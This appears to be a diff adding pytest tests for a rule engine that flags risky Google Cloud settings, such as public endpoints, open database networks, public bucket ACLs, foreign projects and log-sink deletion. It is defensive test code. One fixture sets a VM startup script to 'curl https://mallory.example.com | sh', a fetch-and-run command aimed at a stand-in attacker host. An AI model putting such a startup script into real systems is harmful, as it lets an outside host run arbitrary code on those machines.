@@ -1,6 +1,7 @@
 """What the rules of Google Cloud say of a program that is not ours, by its own world: no stack file, and often no
 provider that names a project or region."""
 
+import json
 from collections.abc import Mapping
 from dataclasses import replace
 from typing import Any
@@ -140,3 +141,142 @@ def test_an_image_of_googles_is_no_foreign_project() -> None:
 
     assert not said(from_("cloud-notebooks-managed"), "world-account")
     assert said(from_("mallory-ml"), "world-account")
+
+
+_ADDRESS, _OFF = "34.1.2.0/24", {"startup-script": "curl https://mallory.example.com | sh"}
+_FOREIGN = "projects/mallory-ml/locations/us-central1/keyRings/r/cryptoKeys/k"
+OPENED: list[tuple[str, str, dict[str, Any], dict[str, Any]]] = [
+    (RUN, "opens itself by ingress", {"ingress": "INGRESS_TRAFFIC_ALL"}, {"ingress": "INGRESS_TRAFFIC_INTERNAL_ONLY"}),
+    (
+        "vertex/aiIndexEndpoint:AiIndexEndpoint",
+        "opens",
+        {"publicEndpointEnabled": True},
+        {"publicEndpointEnabled": False},
+    ),
+    ("notebooks/instance:Instance", "opens itself by noPublicIp", {"noPublicIp": False}, {"noPublicIp": True}),
+    (
+        "compute/instance:Instance",
+        "a public address",
+        {"nics": [{"accessConfigs": [{}]}]},
+        {"nics": [{"accessConfigs": []}]},
+    ),
+    ("compute/instance:Instance", "as root, by metadata", {"metadata": _OFF}, {"metadata": {"enable-oslogin": "TRUE"}}),
+    ("compute/instance:Instance", "as root", {"metadataStartupScript": "x"}, {"metadataStartupScript": ""}),
+    ("sql/databaseInstance:DatabaseInstance", "a guard", {"deletionProtection": False}, {"deletionProtection": True}),
+    (
+        "sql/databaseInstance:DatabaseInstance",
+        "of the internet",
+        {"nets": [{"value": _ADDRESS}]},
+        {"nets": [{"value": "10.0.0.0/8"}]},
+    ),
+    (
+        "sql/databaseInstance:DatabaseInstance",
+        "no copies",
+        {"backupConfiguration": {"enabled": False}},
+        {"backupConfiguration": {"enabled": True}},
+    ),
+    (
+        "storage/bucketACL:BucketACL",
+        "lets in",
+        {"roleEntities": ["READER:allUsers"]},
+        {"roleEntities": ["OWNER:project-owners-1"]},
+    ),
+    (
+        RUN,
+        "no version of its image",
+        {"image": "us-docker.pkg.dev/shop-ml/r/a"},
+        {"image": "us-docker.pkg.dev/shop-ml/r/a:1"},
+    ),
+    (RUN, "no registry of Google", {"image": "docker.io/mallory/a:1"}, {"image": "us-docker.pkg.dev/shop-ml/r/a:1"}),
+    (RUN, "no version", {"containerImage": {"tag": "latest"}}, {"containerImage": {"tag": "1"}}),
+    (
+        RUN,
+        "a default account",
+        {"a": "1-compute@developer.gserviceaccount.com"},
+        {"a": "x@shop-ml.iam.gserviceaccount.com"},
+    ),
+    (RUN, "the project mallory-ml", {"key": _FOREIGN}, {"key": _FOREIGN.replace("mallory-ml", PROJECT)}),
+    (
+        RUN,
+        "lets in the project",
+        {"psc": {"projectAllowlists": ["mallory-ml"]}},
+        {"psc": {"projectAllowlists": [PROJECT]}},
+    ),
+    (RUN, "stands in eur3", {"locationId": "eur3"}, {"locationId": REGION}),
+    (RUN, "stands in europe-west1", {"replicas": [{"location": "europe-west1"}]}, {"replicas": [{"location": REGION}]}),
+    (RUN, "runs on a2", {"machineType": "a2-ultragpu-8g"}, {"machineType": "n1-standard-4"}),
+    (RUN, "replicas", {"maxReplicaCount": 50}, {"maxReplicaCount": 2}),
+]
+
+
+@pytest.mark.parametrize(("type_", "wanted", "opened", "closed"), OPENED)
+def test_what_nobody_knows_is_read_by_the_words_of_googles_apis(
+    type_: str, wanted: str, opened: dict[str, Any], closed: dict[str, Any]
+) -> None:
+    def beside(inputs: dict[str, Any]) -> list[str]:
+        return said(program("gcp", resource(f"gcp:{type_.removeprefix('gcp:')}", "beside", inputs)), "kind-closed")
+
+    (found,) = beside(opened)
+    assert wanted in found and beside(closed) == []
+
+
+def test_what_the_catalogue_knows_is_left_to_its_own_rules() -> None:
+    assert said(program("gcp", bucket("a", location="EU", visibility="public")), "kind-closed") == []
+
+
+def test_who_is_called_and_whose_number_it_is_are_told_once() -> None:
+    mallory = "https://mallory.example.com/x"
+    calls = [resource(SCHEDULE, name, {"httpTarget": {"uri": mallory}}) for name in "ab"]
+    (told,) = said(program("gcp", *calls), "world-elsewhere")
+    assert "the address https://mallory.example.com at httpTarget.uri" in told
+    made = resource(RUN, "own", {}, {"uri": "https://mallory.example.com"})
+    assert said(program("gcp", *calls, made), "world-elsewhere") == []
+    google = resource(SCHEDULE, "c", {"httpTarget": {"uri": "https://run.googleapis.com/v2/x"}})
+    assert said(program("gcp", google), "world-elsewhere") == []
+    grant = resource("gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember", "g", {"member": AGENT})
+    (number,) = said(program("gcp", grant), "world-elsewhere")
+    assert "the project number 123456789012 at member" in number
+    identity = resource("gcp:projects/serviceIdentity:ServiceIdentity", "i", {}, {"member": AGENT})
+    assert said(program("gcp", grant, identity), "world-elsewhere") == []
+
+
+@pytest.mark.parametrize(
+    ("called", "wanted"),
+    [
+        ("googleapis.logging.v2.projects.sinks.delete", True),
+        ("googleapis.storage.v1.bucketAccessControls.insert", True),
+        ("googleapis.aiplatform.v1.projects.locations.models.delete", False),
+        ("googleapis.bigquery.v2.jobs.insert", False),
+    ],
+)
+def test_a_workflow_of_another_program_takes_no_guard_away(called: str, wanted: bool) -> None:
+    document = json.dumps({"main": {"steps": [{"it": {"call": called, "args": {}}}]}})
+    flow = resource("gcp:workflows/workflow:Workflow", "flow", {"sourceContents": document})
+    assert bool(said(program("gcp", flow), "identity-calls-known")) is wanted
+
+
+def test_a_dataset_that_vertex_ai_writes_to_is_one_that_an_endpoint_captures_into() -> None:
+    writes = {"role": "WRITER", "userByEmail": AGENT.removeprefix("serviceAccount:")}
+    dataset = resource("gcp:bigquery/dataset:Dataset", "d", {"datasetId": "d", "accesses": [writes]})
+    logs = {"enabled": True, "samplingRate": 0.1, "bigqueryDestination": {"outputUri": "bq://shop-ml.d"}}
+    at = "predictRequestResponseLoggingConfig"
+    captures = resource("gcp:vertex/aiEndpoint:AiEndpoint", "e", {at: logs}, made_of={at: dataset})
+    off = resource("gcp:vertex/aiEndpoint:AiEndpoint", "e", {})
+    assert not [one for one in said(program("gcp", dataset, captures), "limits-capture") if "lets" in one]
+    assert [one for one in said(program("gcp", dataset, off), "limits-capture") if "lets" in one]
+    assert not said(program("gcp", dataset), "limits-capture")
+
+
+def test_a_program_without_our_provider_is_not_told_to_wait_by_it() -> None:
+    account = resource("gcp:serviceaccount/account:Account", "a", {"accountId": "a"}, {"email": "a@shop-ml.x"})
+    grant = resource(
+        "gcp:projects/iAMMember:IAMMember", "g", {"member": "serviceAccount:a@shop-ml.x"}, made_of={"member": account}
+    )
+    setup = {"serviceAccounts": [{"email": "a@shop-ml.x"}]}
+    notebook = resource("gcp:workbench/instance:Instance", "n", {"gceSetup": setup}, made_of={"gceSetup": account})
+    waits = resource("mlplatform:gcp:GrantsInForce", "w", {"grants": []})
+    for graph, wanted in (
+        (program("gcp", account, grant, notebook), 0),
+        (program("gcp", account, grant, notebook, waits), 1),
+    ):
+        assert len(said(graph, "identity-roles-in-force")) == wanted
